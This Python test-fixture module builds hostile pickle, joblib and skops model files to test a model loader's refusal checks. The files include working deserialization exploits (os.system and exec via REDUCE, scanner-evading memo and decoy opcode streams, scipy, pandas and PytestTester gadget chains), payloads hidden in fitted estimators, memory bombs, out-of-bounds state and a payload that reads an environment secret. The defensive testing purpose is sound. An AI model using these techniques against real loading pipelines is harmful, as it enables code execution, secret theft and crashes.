"""A corpus of hostile model files: pickles, joblib and skops files that try to run code while
they load (or allocate without bound, or write to stdout).

``build(directory, marker)`` writes every file into ``directory`` and returns one
:class:`HostileCase` per file. Each payload's only effect is to create or write ``marker``
(the tests put it under their tmp_path); the memory bombs create nothing and only ask for far
more memory than a model needs (the tests load them under an address-space limit).

The files are assembled from pickle opcodes where the trick lives in the byte stream (names
built through the memo, decoys, INST/OBJ, joblib's inline arrays), and from real objects with
``__reduce__`` or tampered state where that suffices (real fitted estimators carrying a payload
in an attribute). Routes:

- ``reduce``: a forbidden callable (os.system, subprocess, exec, eval, importlib) via REDUCE;
- ``stack-global-memo``: STACK_GLOBAL with its module and name pushed, memoized, popped and
  fetched back, or hidden behind popped decoys;
- ``inst-obj``: protocol 0/1 INST and OBJ, which call the named callable directly;
- ``build-setstate``: BUILD handing crafted state to an allowed class's ``__setstate__``;
- ``pandas-expr``: ``pandas.core.computation.expr.Expr`` evaluating an expression in its
  caller's globals;
- ``scipy-setstate``: a scipy.stats distribution whose pickled argument-parser template is run
  by ``exec`` in ``__setstate__`` (.pkl, joblib and .skops);
- ``ndarraywrapper``: ``joblib.numpy_pickle_compat.NDArrayWrapper`` making joblib call
  ``np.load(allow_pickle=True)`` on the artifact itself, which unpickles it without any check;
- ``pytesttester``: numpy's/scipy's ``PytestTester`` instance called through REDUCE, which runs
  pytest with the attacker's arguments;
- ``joblib-object-array``: a payload inside the nested pickle joblib writes for an object-dtype
  array (joblib reads it with a fresh Unpickler that only inherits ``find_class``);
- ``hidden-in-estimator``: any of the above as an attribute of a real fitted LogisticRegression
  or Pipeline that still predicts correctly;
- ``memory-bomb``: a few bytes that ask for many GiB;
- ``unchecked-state``: only allowed names, but state that Cython/C kernels trust (a tree node
  pointing outside the node array, sparse indices outside the matrix, KDTree/BallTree indices
  outside the training data): predict crashes or
  touches foreign memory;
- ``stdout``: a payload that writes a fake worker reply to stdout;
- ``env-secret``: a payload that copies ``MLOPSCTL_KEY`` from the environment into the marker.
"""

from __future__ import annotations

import copy
import os
import pickle
import struct
import subprocess
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

FORMATS = ("sklearn-pickle", "joblib", "skops")


@dataclass(frozen=True)
class HostileCase:
    name: str
    file: Path
    format: str  # 'sklearn-pickle' | 'joblib' | 'skops'
    route: str
    # Names of which the refusal must mention at least one (the global or type refused).
    refuses: tuple[str, ...] = ()
    bomb: bool = False  # no marker: asks for unbounded memory, or crashes at predict


# --- opcode assembly ------------------------------------------------------------------------------

PROTO4 = b"\x80\x04"
MEMOIZE, STACK_GLOBAL, REDUCE, BUILD, STOP = b"\x94", b"\x93", b"R", b"b", b"."
TUPLE1, TUPLE2, TUPLE3, EMPTY_TUPLE, MARK, TUPLE = b"\x85", b"\x86", b"\x87", b")", b"(", b"t"
POP, DUP, NEWOBJ, EMPTY_DICT, SETITEM, SETITEMS = b"0", b"2", b"\x81", b"}", b"s", b"u"
NONE, NEWTRUE, NEWFALSE, EMPTY_LIST, APPENDS = b"N", b"\x88", b"\x89", b"]", b"e"


def _s(text: str) -> bytes:
    """A str on the stack: SHORT_BINUNICODE, or BINUNICODE when long."""
    raw = text.encode()
    if len(raw) < 256:
        return b"\x8c" + bytes([len(raw)]) + raw
    return b"X" + struct.pack("<I", len(raw)) + raw


def _int(value: int) -> bytes:
    """An int on the stack (LONG1, any size)."""
    raw = value.to_bytes((value.bit_length() + 8) // 8, "little", signed=True)
    return b"\x8a" + bytes([len(raw)]) + raw


def _global(module: str, name: str) -> bytes:
    return _s(module) + _s(name) + STACK_GLOBAL


def _get(index: int) -> bytes:
    return b"h" + bytes([index])  # BINGET


def _call(module: str, name: str, *args: bytes) -> bytes:
    """STACK_GLOBAL module.name called (REDUCE) with the already encoded ``args``."""
    return _global(module, name) + MARK + b"".join(args) + TUPLE + REDUCE


def _shell(marker: Path) -> str:
    return f"touch {marker}"


def _py(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').close()"


class Reduce:
    """Pickles as ``func(*args)``; ``func`` may itself be a Reduce (called while loading)."""

    def __init__(self, func: Any, *args: Any) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return (self.func, self.args)

    def __call__(self, *args: Any) -> None:  # pickle insists that a REDUCE target is callable
        raise AssertionError("never called while pickling")


# --- the payload building blocks ------------------------------------------------------------------


def _pandas_expr(marker: Path, fmt: str) -> Reduce:
    """``Expr(expr, 'python', 'python', None, 0)``: parsing evaluates the calls in ``expr``
    against the globals of the frame that called the unpickler (C pickle: the loader's module,
    which imports ``pickle``; joblib's pure-Python unpickler: the ``pickle`` module itself)."""
    from pandas.core.computation.expr import Expr

    inner = f"cposix\nsystem\n(V{_shell(marker)}\ntR.".encode()
    call = "pickle.loads" if fmt == "sklearn-pickle" else "loads"
    return Reduce(Expr, f"{call}({inner!r})", "python", "python", None, 0)


def _scipy_distribution(code: str) -> Any:
    """A copy of scipy.stats.norm whose argument-parser template runs ``code`` first and then
    defines the real parsers, so the distribution keeps working after the payload ran."""
    from scipy.stats import norm

    dist = copy.deepcopy(norm)
    dist._parse_arg_template = code + "\n" + norm._parse_arg_template
    return dist


def _pytest_args(marker: Path) -> list[str]:
    """pytest arguments whose only effect is a JUnit XML report at ``marker``: no config file,
    no cache directory, no plugins that matter; the tests collected are those of the marker's
    directory (none)."""
    return ["-c", os.devnull, "--rootdir", str(marker.parent), "-p", "no:cacheprovider",
            "-p", "no:xdist", "--junitxml", str(marker)]


def _pytesttester(marker: Path, package: str = "numpy") -> Reduce:
    """``PytestTester(package)(label, verbose, extra_argv, ..., tests)``: REDUCE calls the
    instance, which runs pytest with the attacker's arguments."""
    if package == "numpy":
        from numpy._pytesttester import PytestTester as NumpyTester

        tester: Any = Reduce(NumpyTester, "numpy")
        # label, verbose, extra_argv, doctests, coverage, durations, tests
        args: tuple[Any, ...] = ("full", 0, _pytest_args(marker), False, False, -1,
                                 [str(marker.parent)])
    else:
        from scipy._lib._testutils import PytestTester as ScipyTester

        tester = Reduce(ScipyTester, "scipy")
        # label, verbose, extra_argv, doctests, coverage, tests, parallel
        args = ("full", 0, _pytest_args(marker), False, False, [str(marker.parent)], None)
    return Reduce(tester, *args)


def _fitted_lr() -> Any:
    from sklearn.datasets import load_iris
    from sklearn.linear_model import LogisticRegression

    x, y = load_iris(return_X_y=True)
    return LogisticRegression(max_iter=500).fit(x, y)


def _fitted_pipeline() -> Any:
    from sklearn.datasets import load_iris
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler

    x, y = load_iris(return_X_y=True)
    return make_pipeline(StandardScaler(), LogisticRegression(max_iter=500)).fit(x, y)


def _carrying(estimator: Any, attribute: str, payload: Any) -> Any:
    """A real fitted estimator with ``payload`` as one more attribute: unpickling the estimator
    unpickles the payload; predictions are untouched."""
    setattr(estimator, attribute, payload)
    return estimator


def _joblib_dump(obj: Any, path: Path, compress: Any = 0) -> None:
    import joblib

    joblib.dump(obj, path, compress=compress)


def _object_array(payload: Any) -> Any:
    import numpy as np

    arr = np.empty(2, dtype=object)
    arr[0], arr[1] = "fine", payload
    return arr


# --- hand-assembled streams -----------------------------------------------------------------------


def _memo_stack_global(module: str, name: str, arg: str) -> bytes:
    """Module and name strings memoized, both popped, fetched back with BINGET."""
    return (PROTO4 + _s(module) + MEMOIZE + _s(name) + MEMOIZE + POP + POP
            + _get(0) + _get(1) + STACK_GLOBAL + _s(arg) + TUPLE1 + REDUCE + STOP)


def _memo_reused_module(arg: str) -> bytes:
    """'builtins' memoized once, first used for the harmless builtins.dict, then fetched again
    for builtins.exec."""
    return (PROTO4 + _s("builtins") + MEMOIZE + _s("dict") + STACK_GLOBAL + EMPTY_TUPLE
            + REDUCE + POP + _get(0) + _s("exec") + STACK_GLOBAL + _s(arg) + TUPLE1 + REDUCE
            + STOP)


def _memo_overwritten(arg: str) -> bytes:
    """Memo slot 0 first holds 'numpy', then is overwritten (BINPUT 0) by 'posix': a walk that
    remembers the first value of a slot sees numpy.system."""
    return (PROTO4 + _s("numpy") + b"q\x00" + POP + _s("posix") + b"q\x00" + POP
            + _get(0) + _s("system") + STACK_GLOBAL + _s(arg) + TUPLE1 + REDUCE + STOP)


def _popped_decoy(arg: str) -> bytes:
    """posix/system pushed, then an allowed numpy/ndarray pair pushed and popped."""
    return (PROTO4 + _s("posix") + _s("system") + _s("numpy") + _s("ndarray") + POP + POP
            + STACK_GLOBAL + _s(arg) + TUPLE1 + REDUCE + STOP)


def _dup_decoy(arg: str) -> bytes:
    """'os' DUPed: one copy is swallowed by an allowed builtins.dict call, the other reaches
    STACK_GLOBAL together with 'system'."""
    return (PROTO4 + _s("os") + DUP + _global("builtins", "list") + EMPTY_TUPLE + REDUCE + POP
            + POP + _s("system") + STACK_GLOBAL + _s(arg) + TUPLE1 + REDUCE + STOP)


def _framed(arg: str) -> bytes:
    """The call inside a FRAME, behind an allowed global."""
    body = (_global("collections", "OrderedDict") + POP + _global("posix", "system") + _s(arg)
            + TUPLE1 + REDUCE + STOP)
    return PROTO4 + b"\x95" + struct.pack("<Q", len(body)) + body


def _inst(module: str, name: str, arg: str) -> bytes:
    """Protocol 0 INST: MARK, args, INST module\\nname: calls module.name(*args)."""
    return f"(V{arg}\ni{module}\n{name}\n.".encode()


def _obj(module: str, name: str, arg: str) -> bytes:
    """Protocol 1 OBJ: MARK, callable, args, OBJ: calls callable(*args)."""
    return b"(" + f"c{module}\n{name}\n".encode() + b"X" + struct.pack("<I", len(arg)) \
        + arg.encode() + b"o."


def _ndarraywrapper(own_name: str, marker: Path, as_pkl: bool) -> bytes:
    """An NDArrayWrapper pointing joblib's ``np.load(allow_pickle=True)`` at the artifact
    itself (relative to the directory it is loaded from). np.load unpickles the same bytes
    with plain ``pickle.load``: the wrapper is rebuilt harmlessly and the os.system call that
    follows runs. As a .pkl, a popped joblib.numpy_pickle decoy and a bad opcode after the
    payload make the opcode walk give up and hand the file to the joblib loader."""
    decoy = _global("joblib.numpy_pickle", "NumpyArrayWrapper") + POP if as_pkl else b""
    wrapper = (_global("joblib.numpy_pickle_compat", "NDArrayWrapper") + EMPTY_TUPLE + NEWOBJ
               + EMPTY_DICT + _s("filename") + _s(own_name) + SETITEM
               + _s("subclass") + NONE + SETITEM + _s("allow_mmap") + NEWFALSE + SETITEM
               + BUILD)
    payload = _global("posix", "system") + _s(_shell(marker)) + TUPLE1 + REDUCE
    tail = b"\xff" if as_pkl else STOP
    return PROTO4 + decoy + wrapper + payload + tail


def _reconstruct_bomb(gib: int) -> bytes:
    """numpy's own unpickle helper asked for an empty int8 array of ``gib`` GiB: the shape is
    an argument of ``_reconstruct``, allocated before any data is read."""
    return (PROTO4 + _global("numpy._core.multiarray", "_reconstruct")
            + _global("numpy", "ndarray") + _int(gib * 2**30) + TUPLE1 + b"C\x01b" + TUPLE3
            + REDUCE + STOP)


def _list_bomb(gib: int) -> bytes:
    """builtins.list(builtins.range(n)): eight bytes of pointer (and an int) per element."""
    return (PROTO4 + _global("builtins", "list") + _global("builtins", "range")
            + _int(gib * 2**30 // 8) + TUPLE1 + REDUCE + TUPLE1 + REDUCE + STOP)


def _ndarray_bomb(gib: int, opcode: bytes) -> bytes:
    """numpy.ndarray((n,)) called directly (REDUCE) or through NEWOBJ: an uninitialised int8
    array of ``gib`` GiB (ndarray's default dtype is float64: n = gib GiB / 8)."""
    return (PROTO4 + _global("numpy", "ndarray") + _int(gib * 2**30 // 8) + TUPLE1 + TUPLE1
            + opcode + STOP)


def _bytearray_bomb(gib: int) -> bytes:
    return PROTO4 + _global("builtins", "bytearray") + _int(gib * 2**30) + TUPLE1 + REDUCE + STOP


def _tree_out_of_bounds() -> bytes:
    """A real fitted DecisionTreeClassifier whose root points at child node 10**8: every name
    in it is legitimate, and predict reads memory far outside the node array (a segfault, or
    whatever lies there)."""
    from sklearn.datasets import load_iris
    from sklearn.tree import DecisionTreeClassifier

    x, y = load_iris(return_X_y=True)
    tree = DecisionTreeClassifier(max_depth=3, random_state=0).fit(x, y)
    state = tree.tree_.__getstate__()
    nodes = state["nodes"].copy()
    nodes["left_child"][0] = nodes["right_child"][0] = 10**8
    state["nodes"] = nodes
    tree.tree_.__setstate__(state)
    return pickle.dumps(tree)


def _sparse_coef_out_of_bounds() -> bytes:
    """A real LogisticRegression whose ``coef_`` is a scipy csc_matrix with row indices far
    outside the matrix: scipy's sparse kernels trust them, so decision_function reads and
    writes memory outside its buffers (sparse state is never checked on unpickling)."""
    import numpy as np
    from scipy import sparse
    from sklearn.datasets import load_iris
    from sklearn.linear_model import LogisticRegression

    x, y = load_iris(return_X_y=True)
    lr = LogisticRegression(max_iter=500).fit(x, y == 0)
    coef = sparse.csc_matrix(lr.coef_)
    coef.indices = 10**7 + 1000 * np.arange(len(coef.indices), dtype=coef.indices.dtype)
    lr.coef_ = coef
    return pickle.dumps(lr)


def _neighbors_out_of_bounds(algorithm: str) -> bytes:
    """A real KNeighborsClassifier whose KDTree/BallTree points outside its data: every index
    of ``idx_array`` (kd_tree), or every node's ``idx_end`` (ball_tree), is 10**8. The
    Cython query trusts them and reads far outside the training data."""
    import numpy as np
    from sklearn.datasets import load_iris
    from sklearn.neighbors import KNeighborsClassifier

    x, y = load_iris(return_X_y=True)
    knn = KNeighborsClassifier(algorithm=algorithm).fit(x, y)
    state = list(knn._tree.__getstate__())
    if algorithm == "kd_tree":
        idx = np.asarray(state[1]).copy()
        idx[:] = 10**8
        state[1] = idx
    else:
        nodes = np.asarray(state[2]).copy()
        nodes["idx_end"] = 10**8
        state[2] = nodes
    knn._tree.__setstate__(tuple(state))
    return pickle.dumps(knn)


def _boosting_feature_out_of_bounds() -> bytes:
    """A real HistGradientBoostingClassifier whose first tree splits on feature 10**7 at every
    inner node (children left intact): the Cython predictor reads X far outside its rows."""
    from sklearn.datasets import load_iris
    from sklearn.ensemble import HistGradientBoostingClassifier

    x, y = load_iris(return_X_y=True)
    model = HistGradientBoostingClassifier(max_iter=3).fit(x, y)
    predictor = model._predictors[0][0]
    nodes = predictor.nodes.copy()
    nodes["feature_idx"][~nodes["is_leaf"].astype(bool)] = 10**7
    predictor.nodes = nodes
    return pickle.dumps(model)


def _arrow_offsets_out_of_bounds() -> bytes:
    """A pyarrow string array rebuilt by ``pyarrow.lib._restore_array`` (allowed: pandas'
    Arrow-backed strings pickle through it) whose offsets run 50 MB past its 9 bytes of data:
    the array is not validated, and reading its strings reads foreign memory."""
    import numpy as np
    import pyarrow as pa

    restore, (state,) = pa.array(["apple", "pear"]).__reduce__()
    fields = list(state)
    buffers = list(fields[4])
    buffers[1] = Reduce(pa.py_buffer, np.array([0, 5, 50_000_000], dtype=np.int32).tobytes())
    fields[4] = buffers
    return pickle.dumps(Reduce(restore, tuple(fields)))


def _joblib_shape_bomb(gib: int) -> bytes:
    """A joblib NumpyArrayWrapper announcing a float64 array of ``gib`` GiB; joblib allocates
    np.empty(count) before reading the (absent) data."""
    import numpy as np

    state = {"subclass": np.ndarray, "shape": (gib * 2**30 // 8,), "order": "C",
             "dtype": np.dtype("f8"), "allow_mmap": False, "numpy_array_alignment_bytes": None}
    body = pickle.dumps(state, protocol=2)[2:-1]  # the dict, without PROTO and STOP
    return (PROTO4 + _global("joblib.numpy_pickle", "NumpyArrayWrapper") + EMPTY_TUPLE + NEWOBJ
            + body + BUILD + STOP + b"\0" * 64)


# --- the corpus -----------------------------------------------------------------------------------

Writer = Callable[[Path, Path], None]


def _pickled(obj_of: Callable[[Path], Any], protocol: int = pickle.DEFAULT_PROTOCOL,
             **kw: Any) -> Writer:
    def write(path: Path, marker: Path) -> None:
        path.write_bytes(pickle.dumps(obj_of(marker), protocol=protocol, **kw))
    return write


def _raw(data_of: Callable[[Path], bytes]) -> Writer:
    def write(path: Path, marker: Path) -> None:
        path.write_bytes(data_of(marker))
    return write


def _raw_named(data_of: Callable[[str, Path], bytes]) -> Writer:
    def write(path: Path, marker: Path) -> None:
        path.write_bytes(data_of(path.name, marker))
    return write


def _joblib(obj_of: Callable[[Path], Any], compress: Any = 0) -> Writer:
    def write(path: Path, marker: Path) -> None:
        _joblib_dump(obj_of(marker), path, compress)
    return write


def _skops(obj_of: Callable[[Path], Any]) -> Writer:
    def write(path: Path, marker: Path) -> None:
        import skops.io as sio

        sio.dump(obj_of(marker), path)
    return write


def _env_code(marker: Path) -> str:
    return (f"import os\nwith open({str(marker)!r}, 'w') as _f:\n"
            "    _f.write(os.environ.get('MLOPSCTL_KEY', '<no key in the environment>'))\n")


def _stdout_code(marker: Path) -> str:
    return ("import sys\nsys.stdout.write('{\"ok\": true, \"task\": \"classification\"}')\n"
            "sys.stdout.flush()\n" + _py(marker) + "\n")


SCIPY = "scipy.stats._continuous_distns.norm_gen"
EXPR = "pandas.core.computation.expr.Expr"
NDW = "joblib.numpy_pickle_compat.NDArrayWrapper"
NPT = "numpy._pytesttester.PytestTester"
SPT = "scipy._lib._testutils.PytestTester"
SYSTEM = ("posix.system", "os.system")

# name -> (suffix, format, route, writer, refused names)
_CASES: list[tuple[str, str, str, str, Writer, tuple[str, ...]]] = [
    # classic REDUCE
    ("reduce-os-system-p0", ".pkl", "sklearn-pickle", "reduce",
     _pickled(lambda m: Reduce(os.system, _shell(m)), protocol=0), SYSTEM),
    ("reduce-os-system-p2", ".pkl", "sklearn-pickle", "reduce",
     _pickled(lambda m: Reduce(os.system, _shell(m)), protocol=2), SYSTEM),
    ("reduce-os-system-p5", ".pkl", "sklearn-pickle", "reduce",
     _pickled(lambda m: Reduce(os.system, _shell(m)), protocol=5), SYSTEM),
    ("reduce-subprocess-popen", ".pkl", "sklearn-pickle", "reduce",
     _pickled(lambda m: Reduce(subprocess.Popen, ["touch", str(m)])), ("subprocess.Popen",)),
    ("reduce-subprocess-check-call", ".pkl", "sklearn-pickle", "reduce",
     _pickled(lambda m: Reduce(subprocess.check_call, ["touch", str(m)])),
     ("subprocess.check_call",)),
    ("reduce-builtins-exec", ".pkl", "sklearn-pickle", "reduce",
     _pickled(lambda m: Reduce(exec, _py(m))), ("builtins.exec",)),
    ("reduce-builtins-eval", ".pkl", "sklearn-pickle", "reduce",
     _pickled(lambda m: Reduce(eval, f"__import__('pathlib').Path({str(m)!r}).touch()")),
     ("builtins.eval",)),
    ("reduce-importlib-getattr", ".pkl", "sklearn-pickle", "reduce",
     _pickled(lambda m: Reduce(Reduce(getattr, Reduce(_import_module(), "os"), "system"),
                               _shell(m))), ("importlib.import_module", "builtins.getattr")),
    ("reduce-builtins-open", ".pkl", "sklearn-pickle", "reduce",
     _pickled(lambda m: Reduce(open, str(m), "w")), ("builtins.open", "io.open")),
    ("reduce-os-system-joblib", ".joblib", "joblib", "reduce",
     _joblib(lambda m: Reduce(os.system, _shell(m))), SYSTEM),
    ("reduce-os-system-joblib-zlib", ".joblib", "joblib", "reduce",
     _joblib(lambda m: {"model": [Reduce(os.system, _shell(m))]}, compress=3), SYSTEM),
    ("reduce-os-system-skops", ".skops", "skops", "reduce",
     _skops(lambda m: {"f": os.system, "cmd": _shell(m)}), SYSTEM),
    # STACK_GLOBAL through the memo, decoys
    ("stack-global-memo", ".pkl", "sklearn-pickle", "stack-global-memo",
     _raw(lambda m: _memo_stack_global("posix", "system", _shell(m))), SYSTEM),
    ("stack-global-memo-reused-module", ".pkl", "sklearn-pickle", "stack-global-memo",
     _raw(lambda m: _memo_reused_module(_py(m))), ("builtins.exec",)),
    ("stack-global-memo-overwritten", ".pkl", "sklearn-pickle", "stack-global-memo",
     _raw(lambda m: _memo_overwritten(_shell(m))), SYSTEM),
    ("stack-global-popped-decoy", ".pkl", "sklearn-pickle", "stack-global-memo",
     _raw(lambda m: _popped_decoy(_shell(m))), SYSTEM),
    ("stack-global-dup-decoy", ".pkl", "sklearn-pickle", "stack-global-memo",
     _raw(lambda m: _dup_decoy(_shell(m))), SYSTEM),
    ("stack-global-framed", ".pkl", "sklearn-pickle", "stack-global-memo",
     _raw(lambda m: _framed(_shell(m))), SYSTEM),
    # INST / OBJ
    ("inst-os-system-p0", ".pkl", "sklearn-pickle", "inst-obj",
     _raw(lambda m: _inst("os", "system", _shell(m))), SYSTEM),
    ("inst-builtins-exec-p0", ".pkl", "sklearn-pickle", "inst-obj",
     _raw(lambda m: _inst("builtins", "exec", _py(m))), ("builtins.exec",)),
    ("obj-os-system-p1", ".pkl", "sklearn-pickle", "inst-obj",
     _raw(lambda m: _obj("os", "system", _shell(m))), SYSTEM),
    ("obj-subprocess-call-p1", ".pkl", "sklearn-pickle", "inst-obj",
     _raw(lambda m: _obj("subprocess", "getoutput", _shell(m))), ("subprocess.getoutput",)),
    # BUILD / __setstate__: scipy.stats distributions exec their pickled template
    ("scipy-setstate-pkl", ".pkl", "sklearn-pickle", "scipy-setstate",
     _pickled(lambda m: _scipy_distribution(_py(m))), (SCIPY,)),
    ("scipy-setstate-p0", ".pkl", "sklearn-pickle", "scipy-setstate",
     _pickled(lambda m: _scipy_distribution(_py(m)), protocol=0, fix_imports=False), (SCIPY,)),
    ("scipy-setstate-joblib", ".joblib", "joblib", "scipy-setstate",
     _joblib(lambda m: _scipy_distribution(_py(m))), (SCIPY,)),
    ("scipy-setstate-joblib-zlib", ".joblib", "joblib", "scipy-setstate",
     _joblib(lambda m: {"prior": _scipy_distribution(_py(m))}, compress=3), (SCIPY,)),
    ("scipy-setstate-skops", ".skops", "skops", "scipy-setstate",
     _skops(lambda m: _scipy_distribution(_py(m))), (SCIPY,)),
    # pandas Expr
    ("pandas-expr-pkl", ".pkl", "sklearn-pickle", "pandas-expr",
     _pickled(lambda m: _pandas_expr(m, "sklearn-pickle")), (EXPR,)),
    ("pandas-expr-joblib", ".joblib", "joblib", "pandas-expr",
     _joblib(lambda m: _pandas_expr(m, "joblib")), (EXPR,)),
    # joblib NDArrayWrapper -> np.load(allow_pickle=True) of the artifact itself
    ("ndarraywrapper-joblib", ".joblib", "joblib", "ndarraywrapper",
     _raw_named(lambda own, m: _ndarraywrapper(own, m, as_pkl=False)), (NDW,)),
    ("ndarraywrapper-pkl", ".pkl", "sklearn-pickle", "ndarraywrapper",
     _raw_named(lambda own, m: _ndarraywrapper(own, m, as_pkl=True)), (NDW,)),
    # PytestTester called through REDUCE
    ("pytesttester-numpy-pkl", ".pkl", "sklearn-pickle", "pytesttester",
     _pickled(lambda m: _pytesttester(m, "numpy")), (NPT,)),
    ("pytesttester-scipy-pkl", ".pkl", "sklearn-pickle", "pytesttester",
     _pickled(lambda m: _pytesttester(m, "scipy")), (SPT,)),
    ("pytesttester-scipy-joblib", ".joblib", "joblib", "pytesttester",
     _joblib(lambda m: _pytesttester(m, "scipy")), (SPT,)),
    # joblib's nested pickle of an object-dtype array
    ("joblib-object-array-os-system", ".joblib", "joblib", "joblib-object-array",
     _joblib(lambda m: {"w": _object_array(Reduce(os.system, _shell(m)))}), SYSTEM),
    ("joblib-object-array-pytesttester", ".joblib", "joblib", "joblib-object-array",
     _joblib(lambda m: {"w": _object_array(_pytesttester(m, "scipy"))}), (SPT,)),
    # payloads inside real fitted estimators
    ("lr-hidden-scipy-pkl", ".pkl", "sklearn-pickle", "hidden-in-estimator",
     _pickled(lambda m: _carrying(_fitted_lr(), "prior_", _scipy_distribution(_py(m)))),
     (SCIPY,)),
    ("lr-hidden-scipy-skops", ".skops", "skops", "hidden-in-estimator",
     _skops(lambda m: _carrying(_fitted_lr(), "prior_", _scipy_distribution(_py(m)))),
     (SCIPY,)),
    ("pipeline-hidden-pandas-expr-joblib", ".joblib", "joblib", "hidden-in-estimator",
     _joblib(lambda m: _carrying(_fitted_pipeline(), "memo_", _pandas_expr(m, "joblib"))),
     (EXPR,)),
    ("lr-hidden-pytesttester-pkl", ".pkl", "sklearn-pickle", "hidden-in-estimator",
     _pickled(lambda m: _carrying(_fitted_lr(), "check_", _pytesttester(m, "scipy"))),
     (SPT,)),
    ("pipeline-hidden-os-system-pkl", ".pkl", "sklearn-pickle", "hidden-in-estimator",
     _pickled(lambda m: _carrying(_fitted_pipeline(), "hook_", Reduce(os.system, _shell(m)))),
     SYSTEM),
    # stdout and secrets
    ("stdout-fake-reply-scipy-pkl", ".pkl", "sklearn-pickle", "stdout",
     _pickled(lambda m: _carrying(_fitted_lr(), "prior_",
                                  _scipy_distribution(_stdout_code(m)))), (SCIPY,)),
    ("stdout-fake-reply-exec-p0", ".pkl", "sklearn-pickle", "stdout",
     _pickled(lambda m: Reduce(exec, _stdout_code(m)), protocol=0, fix_imports=False),
     ("builtins.exec",)),
    ("env-secret-lr-scipy-pkl", ".pkl", "sklearn-pickle", "env-secret",
     _pickled(lambda m: _carrying(_fitted_lr(), "prior_", _scipy_distribution(_env_code(m)))),
     (SCIPY,)),
    ("env-secret-lr-scipy-joblib", ".joblib", "joblib", "env-secret",
     _joblib(lambda m: _carrying(_fitted_lr(), "prior_", _scipy_distribution(_env_code(m)))),
     (SCIPY,)),
]

BOMB_GIB = 64  # far beyond any model here, and beyond the limit the tests load under
# No marker: these ask for far more memory than any model, or crash the process that uses
# them. name -> (suffix, format, route, bytes, refused names)
_BOMBS: list[tuple[str, str, str, str, Callable[[], bytes], tuple[str, ...]]] = [
    ("bomb-numpy-reconstruct", ".pkl", "sklearn-pickle", "memory-bomb",
     lambda: _reconstruct_bomb(BOMB_GIB), ()),
    ("bomb-bytearray", ".pkl", "sklearn-pickle", "memory-bomb",
     lambda: _bytearray_bomb(BOMB_GIB), ("builtins.bytearray",)),
    ("bomb-list-of-range", ".pkl", "sklearn-pickle", "memory-bomb",
     lambda: _list_bomb(BOMB_GIB), ("builtins.list", "builtins.range")),
    ("bomb-ndarray-reduce", ".pkl", "sklearn-pickle", "memory-bomb",
     lambda: _ndarray_bomb(BOMB_GIB, REDUCE), ("numpy.ndarray",)),
    ("bomb-ndarray-newobj", ".pkl", "sklearn-pickle", "memory-bomb",
     lambda: _ndarray_bomb(BOMB_GIB, NEWOBJ), ("numpy.ndarray",)),
    ("bomb-joblib-array-shape", ".joblib", "joblib", "memory-bomb",
     lambda: _joblib_shape_bomb(BOMB_GIB), ()),
    # Every name legitimate, the state not: predict reads (or writes) memory outside the
    # arrays the state describes.
    ("tree-children-out-of-bounds", ".pkl", "sklearn-pickle", "unchecked-state",
     _tree_out_of_bounds, ()),
    ("sparse-coef-indices-out-of-bounds", ".pkl", "sklearn-pickle", "unchecked-state",
     _sparse_coef_out_of_bounds, ()),
    ("kdtree-indices-out-of-bounds", ".pkl", "sklearn-pickle", "unchecked-state",
     lambda: _neighbors_out_of_bounds("kd_tree"), ()),
    ("balltree-nodes-out-of-bounds", ".pkl", "sklearn-pickle", "unchecked-state",
     lambda: _neighbors_out_of_bounds("ball_tree"), ()),
    ("boosting-feature-out-of-bounds", ".pkl", "sklearn-pickle", "unchecked-state",
     _boosting_feature_out_of_bounds, ()),
    ("arrow-offsets-out-of-bounds", ".pkl", "sklearn-pickle", "unchecked-state",
     _arrow_offsets_out_of_bounds, ()),
]


def _import_module() -> Any:
    import importlib

    return importlib.import_module


def build(directory: Path, marker: Path, names: Iterable[str] | None = None
          ) -> list[HostileCase]:
    """Write every hostile file (or only those ``names``) into ``directory``; each payload
    targets ``marker`` only."""
    wanted = set(names) if names is not None else None
    directory.mkdir(parents=True, exist_ok=True)
    cases = []
    for name, suffix, fmt, route, writer, refuses in _CASES:
        if wanted is None or name in wanted:
            path = directory / f"{name}{suffix}"
            writer(path, marker)
            cases.append(HostileCase(name, path, fmt, route, refuses))
    for name, suffix, fmt, route, data_of, refuses in _BOMBS:
        if wanted is None or name in wanted:
            path = directory / f"{name}{suffix}"
            path.write_bytes(data_of())
            cases.append(HostileCase(name, path, fmt, route, refuses, bomb=True))
    if wanted is not None and len(cases) != len(wanted):
        raise KeyError(f"no such cases: {sorted(wanted - {c.name for c in cases})}")
    assert not marker.exists(), "building the corpus ran a payload"
    return cases
